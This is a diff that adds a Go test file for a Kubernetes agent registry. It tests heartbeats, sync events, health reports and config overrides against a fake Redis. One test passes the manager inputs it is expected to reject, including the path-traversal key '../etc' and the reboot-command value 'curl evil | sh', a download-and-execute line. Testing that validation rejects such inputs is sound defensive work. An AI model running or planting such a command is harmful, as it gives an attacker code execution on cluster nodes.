@@ -0,0 +1,195 @@
+package registry
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/gomodule/redigo/redis"
+
+	"k8s-server/models/filedb"
+	"k8s-server/modules/agent"
+	"k8s-server/utils/errors"
+)
+
+func publish(t *testing.T, pool *redis.Pool, hostname, version string) {
+	conn := pool.Get()
+	defer conn.Close()
+	hb := agent.Heartbeat{
+		Hostname:  hostname,
+		Address:   "10.0.0.1",
+		Port:      6380,
+		Version:   version,
+		StartedAt: time.Now().Add(-time.Hour),
+		SentAt:    time.Now(),
+	}
+	if err := agent.PublishHeartbeat(conn, hb, 30*time.Second); err != nil {
+		t.Fatalf("publish heartbeat of %s failed: %v", hostname, err)
+	}
+}
+
+func syncAgents(t *testing.T, m *Manager) {
+	if err := m.Sync(); err != nil {
+		t.Fatalf("sync failed: %v", err)
+	}
+}
+
+func reasons(t *testing.T, m *Manager, hostname string) []string {
+	events, err := m.Events(hostname, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var r []string
+	for _, e := range events {
+		r = append(r, e.Reason)
+	}
+	return r
+}
+
+func TestRegistry(t *testing.T) {
+	fake := newFakeRedis(t)
+	defer fake.close()
+	pool := fake.pool()
+	dir, err := ioutil.TempDir("", "registry")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	store, err := filedb.NewModel(filepath.Join(dir, "test.db"), 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := NewManager(pool, agent.NewRedisDiscovery(pool), store)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	publish(t, pool, "node1", "1.0.0")
+	publish(t, pool, "node2", "1.0.0")
+	if ttl := fake.ttl[agent.HeartbeatKeyPrefix+"node1"]; ttl != 30 {
+		t.Errorf("heartbeat ttl = %d, want 30", ttl)
+	}
+	syncAgents(t, m)
+	agents := m.List()
+	if len(agents) != 2 || !agents[0].Online || agents[0].Hostname != "node1" || agents[1].Port != 6380 {
+		t.Fatalf("unexpected agents %+v", agents)
+	}
+	if r := reasons(t, m, "node1"); len(r) != 0 {
+		t.Errorf("first sync recorded events %v", r)
+	}
+
+	fake.expire(agent.HeartbeatKeyPrefix + "node2")
+	syncAgents(t, m)
+	if a, _ := m.Get("node2"); a.Online || a.Version != "1.0.0" {
+		t.Errorf("expired agent %+v is online or lost its heartbeat", a)
+	}
+
+	publish(t, pool, "node2", "1.0.0")
+	publish(t, pool, "node1", "1.1.0")
+	publish(t, pool, "node3", "1.1.0")
+	syncAgents(t, m)
+	if r := reasons(t, m, "node2"); len(r) != 2 || r[0] != ReasonOnline || r[1] != ReasonOffline {
+		t.Errorf("node2 events = %v, want Online, Offline", r)
+	}
+	if r := reasons(t, m, "node1"); len(r) != 1 || r[0] != ReasonVersionChanged {
+		t.Errorf("node1 events = %v, want VersionChanged", r)
+	}
+	if r := reasons(t, m, "node3"); len(r) != 1 || r[0] != ReasonRegistered {
+		t.Errorf("node3 events = %v, want Registered", r)
+	}
+
+	if err = m.Deregister("node1"); errors.ErrorCode(err) == "" || m.List()[0].Hostname != "node1" {
+		t.Errorf("online agent deregistered: %v", err)
+	}
+	fake.expire(agent.HeartbeatKeyPrefix + "node1")
+	syncAgents(t, m)
+	if err = m.Deregister("node1"); err != nil {
+		t.Fatalf("deregister failed: %v", err)
+	}
+	syncAgents(t, m)
+	if _, err = m.Get("node1"); err == nil {
+		t.Error("deregistered agent is still listed")
+	}
+	if len(m.List()) != 2 {
+		t.Errorf("unexpected agents %+v", m.List())
+	}
+}
+
+func TestHealth(t *testing.T) {
+	fake := newFakeRedis(t)
+	defer fake.close()
+	pool := fake.pool()
+	m, err := NewManager(pool, agent.NewRedisDiscovery(pool), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	publish(t, pool, "node1", "1.0.0")
+	syncAgents(t, m)
+	if _, err = m.Health("node1"); errors.ErrorCode(err) == "" {
+		t.Errorf("missing health report returned %v", err)
+	}
+
+	conn := pool.Get()
+	_, err = conn.Do("SET", agent.HealthKeyPrefix+"node1",
+		`{"hostname":"node1","results":[{"name":"kubelet","type":"process","critical":true}],"failing":["kubelet"]}`)
+	conn.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	report, err := m.Health("node1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if report.Healthy() || len(report.Results) != 1 {
+		t.Errorf("unexpected health report %+v", report)
+	}
+	if _, err = m.Health("node2"); err == nil {
+		t.Error("health of unknown agent returned no error")
+	}
+}
+
+func TestOverrides(t *testing.T) {
+	fake := newFakeRedis(t)
+	defer fake.close()
+	pool := fake.pool()
+	m, err := NewManager(pool, agent.NewRedisDiscovery(pool), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	publish(t, pool, "node1", "1.0.0")
+	syncAgents(t, m)
+
+	if err = m.SetOverride("node1", "agent::HeartBeatInterval", "10"); err != nil {
+		t.Fatal(err)
+	}
+	if err = m.SetOverride("node1", "agent::ContainerGCInterval", "600"); err != nil {
+		t.Fatal(err)
+	}
+	if err = m.DeleteOverride("node1", "agent::ContainerGCInterval"); err != nil {
+		t.Fatal(err)
+	}
+	overrides, err := m.Overrides("node1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(overrides) != 1 || overrides["agent::HeartBeatInterval"] != "10" {
+		t.Errorf("unexpected overrides %v", overrides)
+	}
+	for key, value := range map[string]string{
+		"../etc":                   "x",
+		"agent::RebootCommand":     "curl evil | sh",
+		"agent::Token":             "",
+		"agent::UpdatePublicKey":   "AAAA",
+		"agent::HeartBeatInterval": "-1",
+		"agent::TaintUnhealthy":    "maybe",
+	} {
+		if err = m.SetOverride("node1", key, value); errors.ErrorCode(err) == "" {
+			t.Errorf("%s overridden with %q", key, value)
+		}
+	}
+	if err = m.SetOverride("node2", "agent::ContainerGCInterval", "600"); errors.ErrorCode(err) == "" {
+		t.Error("unknown agent overridden")
+	}
+}